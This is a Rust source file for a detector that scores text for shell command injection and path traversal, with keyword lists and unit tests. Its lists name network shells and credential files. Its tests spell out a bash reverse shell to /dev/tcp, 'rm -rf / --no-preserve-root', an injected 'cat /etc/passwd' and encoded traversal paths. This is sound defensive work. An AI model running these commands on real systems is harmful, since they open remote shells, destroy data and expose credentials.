//! Shell commands as a payload, and paths that leave their directory.
//!
//! From OWASP's Web Security Testing Guide (command injection, path traversal) and POSIX's grammar of
//! the shell: what parts commands, and what puts a command's output into another.

use crate::checks::Verdict;
use crate::site::Site;
use crate::text::{contains_any, is_word};

/// Commands that tell of a machine, or reach another: what a payload begins with.
pub(crate) const COMMANDS: &[&str] = &[
    "id",
    "whoami",
    "uname",
    "cat",
    "ls",
    "pwd",
    "ping",
    "nslookup",
    "dig",
    "host",
    "netstat",
    "ifconfig",
    "ipconfig",
    "ps",
    "w",
    "hostname",
    "sleep",
    "wget",
    "curl",
    "nc",
    "ncat",
    "netcat",
    "telnet",
    "bash",
    "sh",
    "zsh",
    "/bin/sh",
    "/bin/bash",
    "/bin/cat",
    "/bin/ls",
    "/usr/bin/id",
    "perl",
    "python",
    "python3",
    "ruby",
    "php",
    "powershell",
    "cmd",
    "cmd.exe",
    "dir",
    "type",
    "net",
    "tasklist",
    "systeminfo",
    "rm",
    "chmod",
    "chown",
    "kill",
    "killall",
    "reboot",
    "shutdown",
    "halt",
    "mkfifo",
    "echo",
    "printenv",
    "env",
    "set",
    "ver",
    "find",
    "grep",
    "awk",
    "sed",
    "touch",
    "ssh",
    "scp",
    "crontab",
    "useradd",
    "passwd",
    "timeout",
    "tftp",
    "ftp",
    "certutil",
    "reg",
    "which",
    "exec",
    "eval",
];

/// What a command is given only by somebody who attacks.
pub(crate) const WANTED: &[&str] = &[
    "/etc/passwd",
    "/etc/shadow",
    "/etc/hosts",
    "/etc/group",
    "/dev/tcp/",
    "/dev/udp/",
    "-e /bin/",
    "-e cmd",
    "-i >&",
    "$(whoami)",
    "`whoami`",
    "win.ini",
    "boot.ini",
    "/proc/self",
    "|sh",
    "| sh",
    "|bash",
    "| bash",
    "burpcollaborator",
    "interact.sh",
    "oast.",
    "/.ssh/",
    "rm -rf",
    "-enc",
    "downloadstring",
    "nslookup",
];

/// `;`, `|`, `&`: a command follows. The site is the sign.
pub(crate) fn separator(site: &Site<'_, '_>) -> Verdict {
    let text = site.text;
    if site.fenced {
        return None;
    }
    let mut at = site.end;
    while at < site.end + 2 && matches!(text.byte(at), Some(b'|' | b'&')) {
        at += 1;
    }
    // Most of what is parted so has a letter of another word behind it.
    let at = text.skip_space(at);
    let begin = site.start < 4 && site.offset == 0;
    let end = site.sources.command(text, at)?;
    let mut line = end;
    while line < end + 120 && text.byte(line).is_some_and(|byte| !matches!(byte, b'\n')) {
        line += 1;
    }
    let rest = text.slice(at, line);
    text.charge(rest.len() * 4);
    // A row of a table.
    if text.byte(site.start) == Some(b'|') && rest.trim_ascii_end().ends_with(b"|") {
        return None;
    }
    let argument = matches!(
        text.byte(end),
        None | Some(
            b' ' | b'\n'
                | b';'
                | b'|'
                | b'&'
                | b'+'
                | b'%'
                | b'$'
                | b'<'
                | b'>'
                | b'\''
                | b'"'
                | b'`'
                | b'#'
                | b')'
        )
    );
    if !argument {
        return None;
    }
    // In an answer a command is shown, or not run; what an argument or the beginning of a value is, is.
    let wanted = contains_any(rest, WANTED);
    let confidence = match (begin, site.tool, wanted) {
        (true, _, true) => 0.93,
        (true, _, false) if rest.len() < 48 => 0.75,
        (_, true, true) => 0.85,
        (_, true, false) => 0.3,
        (_, false, true) => 0.6,
        _ => return None,
    };
    Some((confidence, line))
}

/// `$(…)` and `` `…` ``: a command's output becomes part of another. The site is the first byte.
pub(crate) fn substitution(site: &Site<'_, '_>) -> Verdict {
    let text = site.text;
    if site.fenced {
        return None;
    }
    let quoted = text.byte(site.start)? == b'`';
    let from = if quoted {
        site.end
    } else if text.byte(site.end)? == b'(' {
        site.end + 1
    } else {
        return None;
    };
    let end = site.sources.command(text, text.skip_space(from))?;
    let mut close = end;
    while close < from + 160
        && text
            .byte(close)
            .is_some_and(|byte| !matches!(byte, b'\n' | b'`' | b')'))
    {
        close += 1;
    }
    let inside = text.slice(from, close);
    let wanted = contains_any(inside, WANTED);
    let begin = site.start < 4 && site.offset == 0 && {
        // The text is that and nothing else.
        text.byte(close + 1).is_none() || text.byte(close + 2).is_none()
    };
    // Between backticks an answer shows code.
    let confidence = match (quoted, begin, site.tool, wanted) {
        (_, true, true, _) => 0.8,
        (false, true, _, _) => 0.8,
        (true, true, _, true) => 0.7,
        (true, true, _, false) => 0.5,
        (_, _, true, true) => 0.8,
        (false, _, true, false) => 0.35,
        (false, _, false, true) => 0.55,
        _ => return None,
    };
    Some((confidence, close + 1))
}

/// Commands that are an attack wherever they stand.
pub(crate) fn known(site: &Site<'_, '_>) -> Verdict {
    let text = site.text;
    let mut end = site.end;
    while end < site.end + 160 && text.byte(end).is_some_and(|byte| byte != b'\n') {
        end += 1;
    }
    let rest = text.slice(site.start, end);
    text.charge(rest.len());
    let token = token(text.slice(site.start, site.end));
    let (sure, confidence) = match token.as_slice() {
        b"bash -i" => (contains_any(rest, &["/dev/tcp/", "/dev/udp/"]), 0.95),
        b"/dev/tcp/" => (
            text.byte(site.end)
                .is_some_and(|byte| byte.is_ascii_digit() || byte == b'$' || is_word(byte)),
            0.85,
        ),
        b"nc " | b"ncat " | b"netcat " => (
            contains_any(
                rest,
                &["-e /bin", "-e sh", "-e cmd", "-c /bin", "-c sh", "-e bash"],
            ),
            0.93,
        ),
        b"rm -rf" | b"rm -fr" => {
            let what = text.skip_blank(site.end);
            let all = matches!(text.byte(what), Some(b'/' | b'*' | b'~')) && {
                let next = text.byte(what + 1);
                next.is_none_or(|byte| !is_word(byte) && byte != b'/' && byte != b'.')
                    || text.starts(what, b"--no-preserve-root")
            } || text.starts(what, b"--no-preserve-root");
            (all, 0.75)
        }
        b"mkfifo" => (
            contains_any(rest, &["nc ", "/bin/sh", "openssl s_client"]),
            0.93,
        ),
        b":(){" | b":()" => (contains_any(rest, &[":|:"]), 0.93),
        b"() {" => (text.starts(text.skip_blank(site.end), b":;"), 0.93),
        b"powershell" => (
            contains_any(
                rest,
                &[
                    "-enc",
                    "-e ",
                    "downloadstring",
                    "iex",
                    "-w hidden",
                    "bypass",
                ],
            ),
            0.8,
        ),
        b"certutil" => (contains_any(rest, &["-urlcache"]), 0.85),
        b"iex" => (
            contains_any(rest, &["downloadstring", "new-object net.webclient", "iwr"]),
            0.85,
        ),
        b"dd if=" => (
            contains_any(rest, &["of=/dev/sd", "of=/dev/nvme", "of=/dev/hd"]),
            0.7,
        ),
        b"mkfs" => (contains_any(rest, &["/dev/"]), 0.55),
        b"pty.spawn(" => (contains_any(rest, &["/bin/"]), 0.8),
        b"curl " | b"wget " => (
            contains_any(
                rest,
                &[
                    "| sh",
                    "|sh",
                    "| bash",
                    "|bash",
                    "| sudo",
                    "-d @/etc",
                    "--post-file",
                    "$(cat ",
                    "`cat ",
                ],
            ),
            0.6,
        ),
        b"cat " => (contains_any(rest, &["/etc/shadow", "/.ssh/id_"]), 0.55),
        b"base64 -d" => (
            contains_any(rest, &["| sh", "|sh", "| bash", "|bash"]),
            0.85,
        ),
        _ => (true, 0.7),
    };
    if !sure {
        return None;
    }
    let scale = match (site.fenced, site.tool) {
        (true, _) => 0.45,
        (false, true) => 1.05,
        (false, false) => 0.85,
    };
    Some((f64::min(confidence * scale, 0.97), end))
}

/// A token in lower case, with one blank for whatever white space parts it.
fn token(written: &[u8]) -> Vec<u8> {
    let mut token = written.to_ascii_lowercase();
    for byte in token.iter_mut().filter(|byte| byte.is_ascii_whitespace()) {
        *byte = b' ';
    }
    token.dedup_by(|next, last| *next == b' ' && *last == b' ');
    token
}

/// `../../../etc/passwd` in any encoding. The site is the first byte.
pub(crate) fn traversal(site: &Site<'_, '_>) -> Verdict {
    let text = site.text;
    const UPS: &[&[u8]] = &[
        b"../",
        b"..\\",
        b"..%2f",
        b"..%5c",
        b"%2e%2e%2f",
        b"%2e%2e/",
        b"..%252f",
        b"%2e%2e%5c",
        b"..%c0%af",
        b"..%c1%9c",
        b"....//",
        b"..%255c",
        b"%252e%252e%252f",
        b".././",
        b"..;/",
        b"...//",
        b"..%u2215",
        b"%c0%ae%c0%ae/",
        b"..//",
        b"..\\\\",
    ];
    // Nothing else that is coded begins one.
    if text.byte(site.start) == Some(b'%')
        && !matches!(text.byte(site.start + 1), None | Some(b'2' | b'c' | b'C'))
    {
        return None;
    }
    // Counted from the first of them only.
    if text.behind(site.start, 3).ends_with(b"../")
        || text.behind(site.start, 3).ends_with(b"..\\")
        || matches!(text.before(site.start), b'.')
    {
        return None;
    }
    let mut at = site.start;
    let (mut ups, mut coded) = (0, false);
    for _ in 0..24 {
        let Some(up) = UPS
            .iter()
            .filter(|up| text.starts(at, up))
            .map(|up| up.len())
            .max()
        else {
            break;
        };
        coded |= text.slice(at, at + up).contains(&b'%') || up > 3;
        ups += 1;
        at += up;
    }
    if ups == 0 {
        return None;
    }
    let from = at;
    while at < from + 48
        && text.byte(at).is_some_and(|byte| {
            is_word(byte) || matches!(byte, b'/' | b'\\' | b'.' | b'-' | b'%' | b'~')
        })
    {
        at += 1;
    }
    let target = text.slice(from, at);
    let wanted = contains_any(
        target,
        &[
            "etc/passwd",
            "etc/shadow",
            "etc/hosts",
            "etc%2f",
            "etc\\",
            "win.ini",
            "boot.ini",
            "windows/",
            "windows\\",
            "winnt",
            "proc/self",
            ".ssh",
            "id_rsa",
            ".aws/",
            "system32",
            "etc/group",
            "var/log",
            ".env",
            "web.config",
            ".htpasswd",
        ],
    );
    let confidence = match (ups, wanted, coded) {
        (2.., true, _) | (1, true, true) => 0.9,
        (1, true, false) => 0.5,
        (2.., false, true) => 0.75,
        (4.., false, false) if site.tool => 0.6,
        (6.., false, false) => 0.6,
        _ => return None,
    };
    let scale = if site.fenced { 0.3 } else { 1.0 };
    Some((confidence * scale, at))
}

/// A file that only attacks ask for by name.
pub(crate) fn named_file(site: &Site<'_, '_>) -> Verdict {
    let text = site.text;
    let short = site.offset == 0 && site.start < 60 && text.byte(site.end + 40).is_none();
    let confidence = match (site.tool, short) {
        (true, _) => 0.75,
        (false, true) if !site.fenced => 0.55,
        _ => 0.1,
    };
    Some((confidence, site.end))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::fence::ANY;
    use crate::site::Sources;
    use crate::text::Text;

    fn look(text: &str, token: &str, tool: bool, check: fn(&Site<'_, '_>) -> Verdict) -> f64 {
        let read = Text::new(text.as_bytes());
        let sources = Sources::new().unwrap();
        let start = text.find(token).unwrap();
        let site = Site {
            text: &read,
            sources: &sources,
            start,
            end: start + token.len(),
            languages: ANY,
            fenced: false,
            tool,
            offset: 0,
        };
        check(&site).map_or(0.0, |(confidence, _)| confidence)
    }

    #[test]
    fn commands_behind_a_value() {
        assert!(look(";id", ";", false, separator) > 0.7);
        assert!(look("| cat /etc/passwd", "|", false, separator) > 0.9);
        assert!(look("file.txt; cat /etc/passwd", ";", true, separator) > 0.8);
        assert!(look("a; and then we find it", ";", false, separator) < 0.1);
        assert!(look("| Name | id |", "|", false, separator) < 0.1);
        assert!(look("$(whoami)", "$", true, substitution) > 0.7);
        assert!(look("costs $(5)", "$", true, substitution) < 0.1);
    }

    #[test]
    fn commands_that_are_an_attack() {
        assert!(
            look(
                "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
                "bash -i",
                true,
                known
            ) > 0.9
        );
        assert!(look("rm -rf / --no-preserve-root", "rm -rf", true, known) > 0.7);
        assert!(look("rm  -rf  / ", "rm  -rf", true, known) > 0.7);
        assert!(look("rm  -rf  ./target", "rm  -rf", true, known) < 0.1);
        assert!(look("Charlotte, NC\n 29451", "NC\n", false, known) < 0.1);
        assert!(look("rm -rf ./target", "rm -rf", true, known) < 0.1);
        assert!(look("rm -rf /tmp/build", "rm -rf", true, known) < 0.1);
    }

    #[test]
    fn paths_out_of_their_directory() {
        assert!(look("../../../../etc/passwd", "../", false, traversal) > 0.8);
        assert!(look("..%2f..%2fsecret", "..%2f", false, traversal) > 0.7);
        assert!(look("../../src/lib.rs", "../", false, traversal) < 0.1);
        assert!(look("import x from '../../../lib/x'", "../", false, traversal) < 0.1);
    }
}
